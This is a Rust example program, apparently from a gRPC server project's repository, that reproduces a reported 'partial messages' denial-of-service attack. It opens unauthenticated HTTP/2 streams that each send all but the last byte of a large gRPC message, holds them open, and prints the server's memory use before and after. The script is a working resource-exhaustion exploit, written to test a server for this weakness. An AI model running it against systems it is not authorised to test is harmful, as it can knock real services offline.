//! The "partial messages" attack of issue 11 item 4, against a running server:
//! one HTTP/2 connection, no token, N streams each sending all but the last
//! byte of a large gRPC message, then holding the connection open. With a
//! PID, prints the server's resident memory before and after.
//!
//! `cargo run --example partial_messages -- ADDR [PATH] [STREAMS] [BYTES] [PID]`
//! e.g. `... 127.0.0.1:8006 /grpc.health.v1.Health/Check 30 4194000 $(pidof heist-audit)`

#![allow(clippy::unwrap_used, clippy::expect_used)] // a demo: fail loudly

use std::time::Duration;

use tonic::codegen::Bytes;

fn rss_kib(pid: &str) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|line| line.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

#[tokio::main]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let addr = args.first().expect("ADDR").clone();
    let path = args
        .get(1)
        .cloned()
        .unwrap_or_else(|| "/heist.v1.AuditService/StoreMessage".into());
    let streams: usize = args.get(2).map_or(30, |n| n.parse().unwrap());
    let bytes: usize = args
        .get(3)
        .map_or(4 * 1024 * 1024 - 16, |n| n.parse().unwrap());
    let pid = args.get(4).cloned();
    let before = pid.as_deref().and_then(rss_kib);

    let tcp = tokio::net::TcpStream::connect(&addr).await.unwrap();
    let (client, connection) = h2::client::handshake(tcp).await.unwrap();
    tokio::spawn(async move {
        if let Err(error) = connection.await {
            eprintln!("connection ended: {error}");
        }
    });
    let mut held = Vec::new();
    let mut frame = vec![0u8; 5 + bytes - 1];
    frame[1..5].copy_from_slice(&u32::try_from(bytes).unwrap().to_be_bytes());
    let frame = Bytes::from(frame);
    for _ in 0..streams {
        let mut client = client.clone().ready().await.unwrap();
        let request = http::Request::post(format!("http://{addr}{path}"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
        let (response, mut body) = client.send_request(request, false).unwrap();
        let _ = body.send_data(frame.clone(), false);
        held.push((response, body));
    }
    // Let the server read what flow control lets through.
    for second in 1..=8 {
        tokio::time::sleep(Duration::from_secs(1)).await;
        if let Some(pid) = &pid {
            println!(
                "after {second}s: server RSS {} KiB",
                rss_kib(pid).unwrap_or(0)
            );
        }
    }
    let mut answered = 0;
    for (response, _) in &mut held {
        if let Ok(Ok(response)) = tokio::time::timeout(Duration::from_millis(50), response).await {
            answered += 1;
            if answered == 1 {
                println!("first answer: {:?}", response.headers());
            }
        }
    }
    let after = pid.as_deref().and_then(rss_kib);
    println!(
        "{streams} streams of {bytes} bytes (all but the last byte) to {path}: \
         {answered} answered early; server RSS before {before:?} KiB, after {after:?} KiB"
    );
}
